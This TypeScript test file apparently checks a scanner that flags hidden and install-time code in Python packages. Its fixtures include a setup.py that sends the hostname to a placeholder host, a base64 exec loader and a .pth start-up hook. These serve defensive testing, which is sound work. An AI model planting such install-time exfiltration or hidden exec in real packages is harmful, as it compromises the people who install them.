import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { suite, type TestContext, test } from "node:test";
import type { ThothError } from "@thoth/pep";
import { buildWheel, installPeers, makeTarGz } from "@thoth/testkit";
import { analysePython, readLocalCode } from "../src/index.ts";

const SETUP = "import socket, requests\nrequests.post('http://x', data=socket.gethostname())\n";
const HIDDEN = "import base64\n\n# a note\nexec(base64.b64decode('aGk='))\n";

async function place(context: TestContext, filename: string, bytes: Uint8Array): Promise<string> {
  const folder = await mkdtemp(join(tmpdir(), "thoth-look-"));
  context.after(() => rm(folder, { recursive: true, force: true }));
  await writeFile(join(folder, filename), bytes);
  return join(folder, filename);
}

const sdist = () =>
  makeTarGz([
    { name: "foo-1.0/PKG-INFO", data: "Name: foo\n" },
    { name: "foo-1.0/setup.py", data: SETUP },
    { name: "foo-1.0/foo/hidden.py", data: HIDDEN },
  ]);

function bandit(): string | undefined {
  try {
    return join(installPeers("test-bandit", ["bandit==1.8.6"]), "bandit");
  } catch {
    return undefined;
  }
}

suite("a look at the code", () => {
  test("of a source distribution and of a wheel finds what is hidden in it", async (t) => {
    const fact = await readLocalCode(await place(t, "foo-1.0.tar.gz", sdist()));
    assert.deepEqual(
      fact.findings.map(({ kind, path, line }) => [kind, path, line]),
      [
        ["hidden-code", "foo/hidden.py", 4],
        ["install-code", "setup.py", 2],
      ],
    );
    assert.equal(fact.lines, 4);
    const wheel = buildWheel({
      name: "foo",
      version: "1.0",
      files: { "foo/hidden.py": HIDDEN, "foo.pth": "import foo\n" },
    });
    const read = await readLocalCode(await place(t, wheel.filename, wheel.bytes));
    assert.deepEqual(
      read.findings.map(({ kind, path }) => [kind, path]),
      [
        ["start-code", "foo.pth"],
        ["hidden-code", "foo/hidden.py"],
      ],
    );
  });

  test("that is cut off or no archive fails by name", async (t) => {
    const cut = await place(t, "foo-1.0-py3-none-any.whl", sdist().slice(0, 60));
    await assert.rejects(readLocalCode(cut), (error: ThothError) => error.code === "invalid-wheel");
    const damaged = await place(t, "foo-1.0.tar.gz", Buffer.from("no archive"));
    await assert.rejects(readLocalCode(damaged), (error: ThothError) => error.code === "invalid-metadata");
    await assert.rejects(
      readLocalCode(`${damaged}.gone.tar.gz`),
      (error: ThothError) => error.code === "file-failed",
    );
  });
});

suite("Bandit and cloc", () => {
  const found = bandit();
  const counted = spawnSync("cloc", ["--version"]).status === 0 ? "cloc" : undefined;

  test("tell what they find by our paths", {
    skip: found === undefined ? "Bandit cannot be installed" : false,
  }, async (t) => {
    const analysers = { bandit: found, cloc: undefined };
    const fact = await readLocalCode(await place(t, "foo-1.0.tar.gz", sdist()), { analysers });
    const theirs = fact.findings.filter(({ kind }) => kind.startsWith("bandit-"));
    // B102 is `exec`: https://bandit.readthedocs.io/en/latest/plugins/b102_exec_used.html
    assert.deepEqual(
      theirs
        .filter(({ kind }) => kind === "bandit-B102")
        .map(({ path, line, severity }) => [path, line, severity]),
      [["foo/hidden.py", 4, "medium"]],
    );
    assert.equal(fact.findings.length - theirs.length, 2);
  });

  test("count the lines that we count", {
    skip: counted === undefined ? "cloc is not installed" : false,
  }, async (t) => {
    const path = await place(t, "foo-1.0.tar.gz", sdist());
    const own = await readLocalCode(path);
    const theirs = await readLocalCode(path, { analysers: { bandit: undefined, cloc: counted } });
    assert.equal(theirs.lines, own.lines);
  });

  test("that fail are told", async () => {
    const files = new Map([["a.py", Buffer.from("x = 1\n")]]);
    await assert.rejects(
      analysePython(files, { bandit: "/nowhere/bandit", cloc: undefined }),
      (error: ThothError) => error.code === "environment-failed",
    );
    assert.deepEqual(await analysePython(files, { bandit: undefined, cloc: undefined }), {
      findings: undefined,
      lines: undefined,
    });
  });
});
